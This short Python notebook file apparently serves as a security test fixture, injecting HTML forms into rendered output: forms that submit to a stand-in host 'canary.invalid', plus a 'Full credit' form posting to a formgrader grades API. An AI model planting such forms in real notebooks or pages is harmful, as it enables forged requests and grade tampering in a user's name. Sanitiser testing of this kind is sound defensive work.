"""Puts a form into the page that sends something to a server in the reader's name."""
# group: browser

# %%
from IPython.display import HTML, display

display(HTML("<form action='http://canary.invalid/form' method='get'><input name='grade' value='10'></form>"))
display(
    HTML(
        "<form action='/formgrader/api/grades' method='post'><button class='full-credit'>Full credit</button></form>"
    )
)

# %% [markdown]
# <form action="http://canary.invalid/markdown"><input name=x></form>
